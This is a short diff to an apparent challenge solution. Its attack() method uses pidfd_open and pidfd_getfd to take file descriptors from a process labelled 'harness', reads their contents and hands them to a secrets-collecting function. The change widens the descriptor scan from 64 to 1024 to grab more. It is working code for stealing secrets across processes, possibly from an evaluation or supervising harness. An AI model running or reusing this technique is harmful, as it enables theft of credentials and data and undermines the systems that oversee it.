@@ -8,7 +8,7 @@ from kit import TO, Empty, call, secrets_in
 class Solution(Empty):
     def attack(self):
         holder = call("pidfd_open", TO["harness"], 0)
-        for fd in range(3, 64):
+        for fd in range(3, 1024):
             try:
                 taken = call("pidfd_getfd", holder, fd, 0)
                 secrets_in(os.pread(taken, 4096, 0))
